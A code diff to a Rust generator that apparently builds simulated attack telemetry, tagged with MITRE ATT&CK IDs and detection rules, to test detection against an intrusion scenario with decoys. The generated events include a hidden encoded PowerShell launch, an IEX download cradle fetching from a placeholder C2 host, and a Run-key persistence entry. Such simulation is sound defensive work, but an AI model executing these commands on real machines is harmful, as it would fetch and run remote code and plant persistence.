@@ -66,11 +66,11 @@ fn actors(world: &World) -> Vec<ActorProfile> {
 /// One story, told in the order in which it happens.
 fn plant(p: &mut Plan<'_>) {
     let w = p.world;
-    let (desk, files, app) = (w.host(Role::Office, 2), w.host(Role::Server, 0), w.host(Role::Server, 1));
+    let (desk, files, app) = (p.take(Role::Office), p.take(Role::Server), p.take(Role::Server));
     let (dc, eng, operator) =
-        (w.host(Role::Controller, 0), w.host(Role::Engineering, 0), w.host(Role::Engineering, 1));
+        (p.take(Role::Controller), p.take(Role::Engineering), p.take(Role::Engineering));
     let victim = w.owner(desk).clone();
-    let (helper, engineer) = (w.admin(0).clone(), w.owner(eng).clone());
+    let (helper, engineer) = (p.take_admin(), w.owner(eng).clone());
     let c2 = format!("tariff-notice-{}.example.org", p.dice.hex(4));
     let c2_ip = address(&mut p.dice);
     let exit = w.exits[0].clone();
@@ -106,13 +106,17 @@ fn plant(p: &mut Plan<'_>) {
     p.step(1_520, "PowerShell, hidden and encoded", &["T1059.001", "T1027.010"], &[rules::ENCODED]);
     let line = "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=";
     let shell = p.run(desk, &mshta, POWERSHELL, line);
-    p.step(1_523, "its text: download and run in memory", &["T1059.001", "T1105"], &[rules::CRADLE]);
-    let text = format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/s')");
-    let event = script(&text, "", &mut p.dice);
-    p.on(desk, event);
-    p.step(1_600, "a run key to come back", &["T1547.001"], &[rules::RUN_KEY]);
-    let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Meter", victim.sid);
-    p.on(desk, set_value(&shell, &key, "powershell -w hidden -f C:\\Users\\Public\\meter.ps1"));
+    if p.perhaps(4) {
+        p.step(1_523, "its text: download and run in memory", &["T1059.001", "T1105"], &[rules::CRADLE]);
+        let text = format!("IEX (New-Object Net.WebClient).DownloadString('https://{c2}/s')");
+        let event = script(&text, "", &mut p.dice);
+        p.on(desk, event);
+    }
+    if p.perhaps(4) {
+        p.step(1_600, "a run key to come back", &["T1547.001"], &[rules::RUN_KEY]);
+        let key = format!("HKU\\{}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Meter", victim.sid);
+        p.on(desk, set_value(&shell, &key, "powershell -w hidden -f C:\\Users\\Public\\meter.ps1"));
+    }
 
     p.phase(95, 13);
     // The helper had just worked at this desk: from here on it goes under the helper's name.
@@ -224,14 +228,13 @@ fn plant(p: &mut Plan<'_>) {
     let system = p.standing(files, SYSTEM, CMD);
     p.on(files, wrote(&system, "D:\\Grid\\read_before_the_holiday.txt"));
 
-    decoys::plant(
-        p,
-        &Grounds {
-            tested_desk: w.host(Role::Office, 5),
-            tested_server: w.host(Role::Server, 2),
-            careless_desk: w.host(Role::Office, 6),
-            hardened: w.host(Role::Server, 2),
-            when: [300, 555, 640],
-        },
-    );
+    let server = p.take(Role::Server);
+    let grounds = Grounds {
+        tested_desk: p.take(Role::Office),
+        tested_server: server,
+        careless_desk: p.take(Role::Office),
+        hardened: server,
+        when: [300, 555, 640],
+    };
+    decoys::plant(p, &grounds);
 }
